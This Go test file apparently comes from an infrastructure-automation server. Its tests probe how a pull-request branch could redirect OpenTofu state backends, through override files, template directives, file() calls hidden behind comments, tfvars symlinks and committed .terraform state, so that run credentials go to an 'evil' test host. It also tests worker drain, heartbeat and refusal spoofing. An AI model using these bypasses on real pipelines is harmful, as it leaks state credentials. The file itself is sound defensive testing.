package server

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/switchtender/switchtender/server/relay"
	"github.com/switchtender/switchtender/server/worker"
)

// attack13dConfig is a pull-request template on the control node's own
// queue whose credential authenticates an http state backend.
const attack13dConfig = `
credential "state13d" {
  env = { TF_HTTP_USERNAME = "switchtender", TF_HTTP_PASSWORD = "state-password-13d" }
}
template "pr13d" {
  project     = "infra"
  command     = "infra/pr13d"
  credentials = ["state13d"]
}
`

// attack13dWrite writes files (name -> text; "" removes it, "symlink:T"
// makes a symbolic link to T) into dir.
func attack13dWrite(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		p := filepath.Join(dir, name)
		if text == "" {
			if err := os.Remove(p); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if target, ok := strings.CutPrefix(text, "symlink:"); ok {
			if err := os.Symlink(target, p); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// attack13dPR starts a control node whose checkout's infra/pr13d holds
// main (on branch main) and a branch "pr" that writes branch over it, and
// plans the branch as a pull request.
func attack13dPR(t *testing.T, main, branch map[string]string) runView {
	t.Helper()
	return attack13dPRWith(t, main, func(h *harness, wd string) { attack13dWrite(t, wd, branch) })
}

// attack13dPRWith is attack13dPR with the branch's change made by change
// (in the checkout, on branch pr; everything it leaves is committed).
func attack13dPRWith(t *testing.T, main map[string]string, change func(h *harness, wd string)) runView {
	t.Helper()
	h := writeHarness(t, "", attack13dConfig)
	wd := filepath.Join(h.project, "infra/pr13d")
	attack13dWrite(t, wd, main)
	h.start()
	h.git("init", "-q", "-b", "main")
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "main")
	h.git("checkout", "-q", "-b", "pr")
	change(h, wd)
	h.git("add", "-A", "-f")
	h.git("commit", "-q", "-m", "the pull request")
	h.git("checkout", "-q", "main")
	return h.launchWait("alice", "pr13d", "--dry-run", "--ref", "pr")
}

// attack13dBackend is an http backend whose address is expr.
func attack13dBackend(expr string) string {
	return "terraform {\n  backend \"http\" {\n    address = " + expr + "\n  }\n}\n"
}

const attack13dResource = "resource \"terraform_data\" \"x\" {\n  input = \"x\"\n}\n"

// Promise (README "Pull-request plans"; scan.Backend: the locals a backend
// block references are pinned by their definitions, so a branch that
// changes one is refused). Break: OpenTofu merges override files last, and
// a local an override file defines replaces the primary file's. Backend
// reads files in name order and keeps the last definition of each local
// (r.locals[n] = ...), so an override file whose name sorts before the
// primary file's (a_override.tf < locals.tf) is read and then forgotten:
// the branch's Backend text equals the checkout's, and OpenTofu plans
// against the address the override names, sending the run's
// TF_HTTP_USERNAME/PASSWORD there.
func TestAttack13dOverrideLocalRedirectsState(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	evil, seen := attack13cStateServer(t)
	v := attack13dPR(t, map[string]string{
		"backend.tf": attack13dBackend("local.state_address"),
		"locals.tf":  "locals {\n  state_address = \"" + legit.URL + "/state\"\n}\n",
		"main.tf":    attack13dResource,
	}, map[string]string{
		"a_override.tf": "locals {\n  state_address = \"" + evil.URL + "/state\"\n}\n",
	})
	if got := seen(); len(got) > 0 {
		t.Fatalf("a branch's override file redefined the local the backend takes, and the pull request's plan sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
			v.Status, v.Message, stepNames(v), got)
	}
	if statusOf(v.Run) != StatusRefused {
		t.Fatalf("not refused: %s: %s", v.Status, v.Message)
	}
}

// Promise (scan.Backend: a JSON backend block that takes a template is
// taken to reference every variable and local, so their declarations and
// .tfvars values are pinned). Break: Backend decides a JSON file takes a
// template by looking for "${" in it (r.all), but an HCL template in a
// JSON string reads variables through a directive too: "%{ if var.env ==
// "prod" }...". A backend.tf.json whose address picks its path with a
// directive takes var.env without "${", so nothing it references is
// pinned: a branch that adds terraform.tfvars (env = "prod") has the
// same Backend text as the checkout, and its plan reads (with the run's
// credentials) the state at /prod where the checkout's runs read /dev.
func TestAttack13dJSONTemplateDirectiveUnpinned(t *testing.T) {
	srv, seen := attack13cStateServer(t)
	v := attack13dPR(t, map[string]string{
		"backend.tf.json": `{"terraform": {"backend": {"http": {"address": "` + srv.URL + `/%{ if var.env == \"prod\" }prod%{ else }dev%{ endif }"}}}}` + "\n",
		"variables.tf":    "variable \"env\" {\n  type    = string\n  default = \"dev\"\n}\n",
		"main.tf":         attack13dResource,
	}, map[string]string{
		"terraform.tfvars": "env = \"prod\"\n",
	})
	for _, r := range seen() {
		if strings.Contains(r, "/prod") {
			t.Fatalf("a branch's terraform.tfvars changed the variable a JSON backend's template directive takes, and the pull request's plan read another state with the run's credentials (%s: %s; steps %v): %v",
				v.Status, v.Message, stepNames(v), seen())
		}
	}
	if statusOf(v.Run) != StatusRefused {
		t.Fatalf("not refused: %s: %s (requests %v)", v.Status, v.Message, seen())
	}
}

// Held: what a branch may change about a backend's inputs without
// touching the backend block's text is pinned, and each such change is
// refused before any tofu runs: a variable's default redefined in an
// override file, a .tofu file shadowing the .tf that declares it, a
// *.auto.tfvars link to a file in the tree, a terraform.tfvars.json, the
// variable read through an index, a for expression or a conditional, and
// an encryption key provider's address taken through a chain of locals.
func TestAttack13dBackendInputsHeld(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	evil, seen := attack13cStateServer(t)
	variable := func(name, def string) string {
		return "variable \"" + name + "\" {\n  type    = string\n  default = \"" + def + "\"\n}\n"
	}
	good, bad := legit.URL+"/state", evil.URL+"/state"
	cases := []struct {
		name         string
		main, branch map[string]string
	}{
		{"variable override file", map[string]string{
			"backend.tf": attack13dBackend("var.addr"), "vars.tf": variable("addr", good),
		}, map[string]string{"a_override.tf": variable("addr", bad)}},
		{"tofu shadow", map[string]string{
			"backend.tf": attack13dBackend("var.addr"), "vars.tf": variable("addr", good),
		}, map[string]string{"vars.tofu": variable("addr", bad)}},
		{"auto tfvars link", map[string]string{
			"backend.tf": attack13dBackend("var.addr"), "vars.tf": variable("addr", good),
		}, map[string]string{"vals/x.txt": "addr = \"" + bad + "\"\n", "x.auto.tfvars": "symlink:vals/x.txt"}},
		{"tfvars json", map[string]string{
			"backend.tf": attack13dBackend("var.addr"), "vars.tf": variable("addr", good),
		}, map[string]string{"terraform.tfvars.json": `{"addr": "` + bad + `"}`}},
		{"index", map[string]string{
			"backend.tf": attack13dBackend(`var.m["k"]`),
			"vars.tf":    "variable \"m\" {\n  type    = map(string)\n  default = { k = \"" + good + "\" }\n}\n",
		}, map[string]string{"terraform.tfvars": "m = { k = \"" + bad + "\" }\n"}},
		{"for expression", map[string]string{
			"backend.tf": attack13dBackend(`[for a in [var.addr] : a][0]`), "vars.tf": variable("addr", good),
		}, map[string]string{"terraform.tfvars": "addr = \"" + bad + "\"\n"}},
		{"conditional", map[string]string{
			"backend.tf": attack13dBackend(`var.alt != "" ? var.alt : "` + good + `"`), "vars.tf": variable("alt", ""),
		}, map[string]string{"z.auto.tfvars": "alt = \"" + bad + "\"\n"}},
		{"encryption key provider through locals", map[string]string{
			"backend.tf": attack13dBackend(`"` + good + `"`),
			"enc.tf": "terraform {\n  encryption {\n    key_provider \"openbao\" \"k\" {\n      address  = local.bao\n      key_name = \"k\"\n      token    = \"bao-token-13d\"\n    }\n" +
				"    method \"aes_gcm\" \"m\" {\n      keys = key_provider.openbao.k\n    }\n    state {\n      method = method.aes_gcm.m\n    }\n  }\n}\n",
			"locals.tf": "locals {\n  bao = local.scheme_host\n  scheme_host = var.bao\n}\n",
			"vars.tf":   variable("bao", legit.URL),
		}, map[string]string{"terraform.tfvars": "bao = \"" + evil.URL + "\"\n"}},
	}
	for _, c := range cases {
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			c.main["main.tf"] = attack13dResource
			v := attack13dPR(t, c.main, c.branch)
			if got := seen(); len(got) > 0 {
				t.Fatalf("the branch's host got requests (%s: %s): %v", v.Status, v.Message, got)
			}
			if statusOf(v.Run) != StatusRefused || !strings.Contains(v.Message, "backend") {
				t.Fatalf("not refused as another backend: %s: %s", v.Status, v.Message)
			}
		})
	}
}

// Held: a pull request that leaves the backend's inputs alone plans, when
// the backend takes a variable: a branch that adds a resource, an
// unrelated variable, an unrelated local and an unrelated value to the
// terraform.tfvars that sets the backend's variable plans against the
// checkout's host.
func TestAttack13dUnrelatedChangesPlan(t *testing.T) {
	legit, seen := attack13cStateServer(t)
	v := attack13dPR(t, map[string]string{
		"backend.tf":       attack13dBackend("var.addr"),
		"vars.tf":          "variable \"addr\" {\n  type = string\n}\n\nvariable \"other\" {\n  type    = string\n  default = \"a\"\n}\n",
		"terraform.tfvars": "addr = \"" + legit.URL + "/state\"\n",
		"main.tf":          attack13dResource,
	}, map[string]string{
		"vars.tf":          "variable \"addr\" {\n  type = string\n}\n\nvariable \"other\" {\n  type    = string\n  default = \"b\"\n}\n\nvariable \"more\" {\n  type    = string\n  default = \"c\"\n}\n",
		"terraform.tfvars": "addr = \"" + legit.URL + "/state\"\nmore = \"d\"\n",
		"extra.tf":         "locals {\n  unrelated = var.more\n}\n\nresource \"terraform_data\" \"y\" {\n  input = local.unrelated\n}\n",
	})
	if statusOf(v.Run) != StatusSucceeded {
		t.Fatalf("a pull request that leaves the backend's inputs alone: %s: %s", v.Status, v.Message)
	}
	if len(seen()) == 0 {
		t.Fatal("the plan did not read the checkout's state")
	}
}

// False refusal: Backend takes a JSON configuration file's whole text for
// its backend block (blockText: "in JSON the whole file stands for it"),
// so in a module written in JSON whose main.tf.json holds the backend
// beside its resources, every pull request that touches a resource is
// refused as "changes the working directory's backend", though the
// backend (a literal address) is the same.
func TestAttack13dJSONModuleResourceChangeRefused(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	file := func(resources string) string {
		return `{"terraform": {"backend": {"http": {"address": "` + legit.URL + `/state"}}}, "resource": {"terraform_data": {` + resources + `}}}` + "\n"
	}
	v := attack13dPR(t, map[string]string{
		"main.tf.json": file(`"x": {"input": "x"}`),
	}, map[string]string{
		"main.tf.json": file(`"x": {"input": "x"}, "y": {"input": "y"}`),
	})
	if statusOf(v.Run) != StatusSucceeded {
		t.Fatalf("a pull request that adds a resource to a JSON module, its backend untouched: %s: %s", v.Status, v.Message)
	}
}

// False refusal: a JSON backend block with a template ("${var.addr}") is
// taken to reference every variable and local the module declares
// (r.all), so a pull request that adds any variable or local anywhere in
// the module, unrelated to the backend, is refused.
func TestAttack13dJSONTemplateBackendUnrelatedVariableRefused(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	v := attack13dPR(t, map[string]string{
		"backend.tf.json": `{"terraform": {"backend": {"http": {"address": "${var.addr}"}}}}` + "\n",
		"vars.tf":         "variable \"addr\" {\n  type    = string\n  default = \"" + legit.URL + "/state\"\n}\n",
		"main.tf":         attack13dResource,
	}, map[string]string{
		"more.tf": "variable \"size\" {\n  type    = number\n  default = 2\n}\n\nresource \"terraform_data\" \"y\" {\n  input = var.size\n}\n",
	})
	if statusOf(v.Run) != StatusSucceeded {
		t.Fatalf("a pull request that adds an unrelated variable beside a JSON backend that takes var.addr: %s: %s", v.Status, v.Message)
	}
}

// attack13dSlowTemplate is a template on pool eu applying infra/slow.
const attack13dSlowTemplate = `
template "rslow" {
  project = "infra"
  command = "infra/slow"
  queue   = "eu"
}
`

// attack13dSlowModule makes infra/slow in checkout a 30-second apply.
func attack13dSlowModule(t *testing.T, checkout string) {
	t.Helper()
	tf := "resource \"terraform_data\" \"slow\" {\n  provisioner \"local-exec\" { command = \"echo started-slow; sleep 30\" }\n}\n"
	if err := os.WriteFile(filepath.Join(checkout, "infra/slow/main.tf"), []byte(tf), 0o644); err != nil {
		t.Fatal(err)
	}
}

// Promise (relay_session.go: "worker drained" is audited when a drained
// worker leaves: "it took no new run, finished the one it had, and
// left"). Break: the documented way to stop a worker outright is a second
// SIGTERM after the first one's drain. A worker drained and then stopped
// mid-apply interrupts its run and reports it interrupted, which ends the
// lease; disconnected then sees draining && lease == nil and audits
// "worker drained ... finished the one it had", though the run it had was
// interrupted, not finished (the audit contradicts the run's record).
func TestAttack13dStoppedAfterDrainAuditedAsDrained(t *testing.T) {
	h, keys, identity := relayHarness(t, attack13dSlowTemplate)
	h.srv.relay.mu.Lock()
	h.srv.relay.timeout["eu"] = time.Minute
	h.srv.relay.mu.Unlock()
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	attack13dSlowModule(t, w1.Projects["infra"].Path)
	ctx, stop := context.WithCancel(context.Background())
	defer stop()
	drain := make(chan struct{})
	errs := make(chan error, 1)
	go func() {
		errs <- worker.RunWorker(ctx, w1, worker.WorkerOptions{Environ: testEnviron, Version: "test", Drain: drain})
	}()
	id := runIDOf(t, h.mustSSH("alice", "launch", "rslow", "--json"))
	waitFor(t, "the slow apply to start", 60*time.Second, func() bool {
		return strings.Contains(h.mustSSH("alice", "log", id), "started-slow")
	})
	close(drain) // the first SIGTERM
	waitFor(t, "the drain to be audited", 10*time.Second, func() bool { return strings.Contains(h.mustSSH("alice", "audit"), "worker draining") })
	stop() // the second
	h.waitStatus(id, StatusInterrupted, StatusFailed, StatusSucceeded)
	select {
	case <-errs:
	case <-time.After(30 * time.Second):
		t.Fatal("the stopped worker did not return")
	}
	var audit string
	waitFor(t, "the worker's leaving to be audited", 10*time.Second, func() bool {
		audit = h.mustSSH("alice", "audit")
		return strings.Contains(audit, "worker drained") || strings.Contains(audit, "worker disconnected") || strings.Contains(audit, "worker stopped")
	})
	r, _ := h.srv.db.GetRun(id)
	if !strings.Contains(audit, "worker stopped") {
		t.Errorf("a worker stopped outright is not audited as stopped:\n%s", audit)
	}
	if Status(r.Status) == StatusInterrupted && strings.Contains(audit, "finished the one it had") {
		t.Fatalf("a worker stopped during its run after a drain is audited as drained, having \"finished the one it had\", while its run %s is %s:\n%s", id, r.Status, audit)
	}
}

// Held: a lease lives on its own heartbeats only. A worker that took a
// run and then sends only run-less heartbeats (which keep `workers` LAST
// SEEN fresh), heartbeats with a wrong fencing token, and another
// worker's heartbeats with the right token, loses the lease within the
// timeout: the run fails as stopped heartbeating, and the wrong-token
// heartbeats are rejected.
func TestAttack13dIdleHeartbeatsKeepNoLease(t *testing.T) {
	h, keys, _ := relayHarness(t, "")
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	other, _ := dialRaw(t, h, keys["w1"], relay.Msg{Name: "w1", Pool: "eu"})
	id, job := attack13cTake(t, h, raw, "rnet", "--dry-run", "--var", "region=hb")
	started := time.Now()
	done := make(chan struct{})
	go func() {
		defer close(done)
		for time.Since(started) < 8*time.Second {
			if r, _ := h.srv.db.GetRun(id); Status(r.Status).Final() {
				return
			}
			_ = raw.c.Send(relay.Msg{Type: relay.MsgHeartbeat})
			_ = raw.c.Send(relay.Msg{Type: relay.MsgHeartbeat, Run: id, Token: job.Token + 1})
			_ = other.c.Send(relay.Msg{Type: relay.MsgHeartbeat, Run: id, Token: job.Token})
			time.Sleep(200 * time.Millisecond)
		}
	}()
	h.waitStatus(id, StatusFailed, StatusSucceeded)
	<-done
	r, _ := h.srv.db.GetRun(id)
	if Status(r.Status) != StatusFailed || !strings.Contains(r.Message, "stopped heartbeating") || time.Since(started) > 7*time.Second {
		t.Fatalf("a lease kept by idle or wrong-token heartbeats for %s: %s: %s", time.Since(started), r.Status, r.Message)
	}
	m, err := raw.c.Recv()
	if err != nil || m.Type != relay.MsgReject {
		t.Fatalf("a wrong-token heartbeat was answered %+v (%v)", m, err)
	}
	var ws []workerView
	if err := json.Unmarshal([]byte(h.mustSSH("alice", "workers", "--json")), &ws); err != nil {
		t.Fatal(err)
	}
	for _, w := range ws {
		if w.Name == "w2" && time.Since(w.LastSeen) > 3*time.Second {
			t.Errorf("w2's idle heartbeats did not keep LAST SEEN fresh: %v", w.LastSeen)
		}
	}
}

// Promise (relay: the control node keeps the decisions; "refused" is the
// status of a run a gate or scan refused, lifecycle.go). Break: result
// (relay_end.go) takes a worker's "refused" for any job. A worker refuses
// only on paths a scanned job or a pull request has (the scan, the export,
// the plan checked against the scan); for a job with neither, an
// unscanned dry run here, no worker refusal exists, yet a worker's
// "refused" with a message of its choosing ("The rules refuse this apply:
// ...") is recorded as the run's refusal, as if the gate had decided it. A
// result a job cannot have should count as failed ("anything else counts
// as failed").
func TestAttack13dWorkerRefusesUnscannedJob(t *testing.T) {
	h, keys, _ := relayHarness(t, "")
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	id, job := attack13cTake(t, h, raw, "rnet", "--dry-run", "--var", "region=rf")
	if job.ScanWhy != "" || job.Ref != "" {
		t.Fatalf("the job is scanned: %+v", job)
	}
	raw.send(relay.Msg{Type: relay.MsgResult, Run: id, Token: job.Token, Status: StatusRefused, Exit: -1,
		Message: "The rules refuse this apply: rule prod-freeze. Nothing was applied."})
	h.waitStatus(id, StatusRefused, StatusFailed)
	if r, _ := h.srv.db.GetRun(id); Status(r.Status) == StatusRefused {
		t.Fatalf("a worker's refusal of a job that has no refusal on a worker was recorded as the run's: %s: %s", r.Status, r.Message)
	}
}

// Held: a worker's "interrupted" (the report of a worker stopped
// outright) ends the run and changes nothing else. For a gated apply's
// plan phase it proposes nothing; for a scanned job before its scan it
// keeps no scan; the run is never re-run and its lease is gone, so the
// worker's later plan or success is rejected.
func TestAttack13dInterruptedDodgesNothing(t *testing.T) {
	h, keys, _ := relayHarness(t, relayScanConfig)
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	for _, args := range [][]string{{"rs-modvar", "--dry-run"}, {"rpr", "--dry-run", "--ref", "main"}} {
		id, job := attack13cTake(t, h, raw, args...)
		if job.ScanWhy == "" {
			t.Fatalf("%v: the job is not scanned", args)
		}
		raw.send(relay.Msg{Type: relay.MsgResult, Run: id, Token: job.Token, Status: StatusInterrupted, Exit: -1, Message: "stopped"})
		h.waitStatus(id, StatusInterrupted, StatusFailed)
		raw.send(relay.Msg{Type: relay.MsgResult, Run: id, Token: job.Token, Status: StatusSucceeded, Exit: 0})
		if m := raw.recv(); m.Type != relay.MsgReject {
			t.Fatalf("%v: a success after interrupted was answered %+v", args, m)
		}
		r, _ := h.srv.db.GetRun(id)
		if r.Scan != nil || len(r.Approvals) != 0 || r.Proposal != nil || Status(r.Status) != StatusInterrupted {
			t.Fatalf("%v: interrupted left %s, scan %+v, proposal %+v", args, r.Status, r.Scan, r.Proposal)
		}
	}
}

// Promise (scan.Backend: "a value read through a function that reads a
// file (file, templatefile, ...)" is refused, since no text could pin
// the file). Break: the refusal is a regular expression over the source
// text (fileFunction: `\bfile...\s*\(`), but HCL lets a comment stand
// between a function's name and its parenthesis: file/**/("addr.txt") is
// a call of file that the expression does not match. Where the checkout's
// backend takes a local read that way, Backend pins nothing of the file,
// and a branch that changes only addr.txt has its plan send the run's
// state credentials to the host it names.
func TestAttack13dFileFunctionBehindComment(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	evil, seen := attack13cStateServer(t)
	v := attack13dPR(t, map[string]string{
		"backend.tf": attack13dBackend("local.state_address"),
		"locals.tf":  "locals {\n  state_address = trimspace(file/**/(\"${path.module}/addr.txt\"))\n}\n",
		"addr.txt":   legit.URL + "/state\n",
		"main.tf":    attack13dResource,
	}, map[string]string{
		"addr.txt": evil.URL + "/state\n",
	})
	if got := seen(); len(got) > 0 {
		t.Fatalf("a file read behind a comment was not refused, and the branch's file sent the run's state credentials to its host (%s: %s): %v", v.Status, v.Message, got)
	}
	if statusOf(v.Run) != StatusRefused {
		t.Fatalf("not refused: %s: %s", v.Status, v.Message)
	}
}

// Promise (relay_session.go drain: a draining worker "takes no new run",
// audited as such; "worker drained": "it took no new run"). Break: take
// (relay_lease.go) does not look at draining, so a worker that drains
// while a run is offered to it (the drain said "it has no run and takes
// no new one") can still take that offer and run it; when it leaves, the
// audit says it "took no new run".
func TestAttack13dDrainingWorkerTakesOffer(t *testing.T) {
	h, keys, _ := relayHarness(t, "")
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	raw.send(relay.Msg{Type: relay.MsgPoll})
	id := runIDOf(t, h.mustSSH("alice", "launch", "rnet", "--dry-run", "--var", "region=dr", "--json"))
	if m := raw.recv(); m.Type != relay.MsgOffer || m.Run != id {
		t.Fatalf("offer %+v", m)
	}
	raw.send(relay.Msg{Type: relay.MsgDrain})
	waitFor(t, "the drain to be audited", 10*time.Second, func() bool { return strings.Contains(h.mustSSH("alice", "audit"), "worker draining") })
	raw.send(relay.Msg{Type: relay.MsgTake, Run: id})
	if m := raw.recv(); m.Type == relay.MsgJob {
		raw.send(relay.Msg{Type: relay.MsgResult, Run: id, Token: m.Token, Status: StatusFailed, Exit: 1, Message: "ran"})
		h.waitStatus(id, StatusFailed)
		raw.client.Close()
		waitFor(t, "the worker's leaving to be audited", 10*time.Second, func() bool {
			return strings.Contains(h.mustSSH("alice", "audit"), "worker drained") || strings.Contains(h.mustSSH("alice", "audit"), "worker disconnected")
		})
		t.Fatalf("a draining worker was given run %s after its drain was audited as taking no new run:\n%s", id, h.mustSSH("alice", "audit"))
	}
}

// The override-file break of TestAttack13dOverrideLocalRedirectsState on
// a relay worker: the worker's export compares with the same scan.Backend,
// and its init and plan send the run's state credentials to the branch's
// host.
func TestAttack13dOverrideLocalRedirectsStateOnWorker(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	evil, seen := attack13cStateServer(t)
	h, keys, identity := relayHarness(t, relayScanConfig+attack13cHTTPStateConfig)
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	checkout := w1.Projects["infra"].Path
	wd := filepath.Join(checkout, "infra/data")
	git := gitIn(t, checkout)
	git("init", "-q", "-b", "main")
	attack13dWrite(t, wd, map[string]string{
		"backend.tf": attack13dBackend("local.state_address"),
		"locals.tf":  "locals {\n  state_address = \"" + legit.URL + "/state\"\n}\n",
	})
	git("add", "-A")
	git("commit", "-q", "-m", "main")
	git("checkout", "-q", "-b", "redirect")
	attack13dWrite(t, wd, map[string]string{"a_override.tf": "locals {\n  state_address = \"" + evil.URL + "/state\"\n}\n"})
	git("add", "-A")
	git("commit", "-q", "-m", "an override file")
	git("checkout", "-q", "main")
	startWorker(t, w1)

	v := h.launchWait("alice", "rprhttp", "--dry-run", "--ref", "redirect")
	if got := seen(); len(got) > 0 {
		t.Fatalf("a pull request's plan on the worker sent the run's state credentials to the host the branch's override file names (%s: %s; steps %v): %v",
			v.Status, v.Message, stepNames(v), got)
	}
}

// Held: a branch that commits an initialized .terraform whose saved
// backend (terraform.tfstate there) names another host under the hash of
// the unchanged backend block (OpenTofu's init and plan then use the
// saved configuration: checked by hand, it sends them there), and a
// .terraform/environment choosing another workspace, does not move the
// pull request's plan: dropUntrusted removes every .terraform, and the
// plan reads the checkout's host.
func TestAttack13dCommittedSavedBackendHeld(t *testing.T) {
	legit, lseen := attack13cStateServer(t)
	evil, seen := attack13cStateServer(t)
	v := attack13dPRWith(t, map[string]string{
		"backend.tf": attack13dBackend(`"` + legit.URL + `/state"`),
		"main.tf":    attack13dResource,
	}, func(h *harness, wd string) {
		attack13bTofu(t, h, "infra/pr13d", "init", "-input=false", "-no-color")
		p := filepath.Join(wd, ".terraform/terraform.tfstate")
		b, err := os.ReadFile(p)
		if err != nil || !strings.Contains(string(b), legit.URL) {
			t.Fatalf("init saved no backend: %v %s", err, b)
		}
		attack13dWrite(t, wd, map[string]string{
			".terraform/terraform.tfstate": strings.ReplaceAll(string(b), legit.URL, evil.URL),
			".terraform/environment":       "evil",
			"extra.tf":                     "resource \"terraform_data\" \"y\" {\n  input = \"y\"\n}\n",
		})
	})
	if got := seen(); len(got) > 0 {
		t.Fatalf("a committed .terraform redirected the pull request's plan (%s: %s): %v", v.Status, v.Message, got)
	}
	if statusOf(v.Run) != StatusSucceeded || len(lseen()) == 0 {
		t.Fatalf("the plan did not run against the checkout's host: %s: %s", v.Status, v.Message)
	}
}
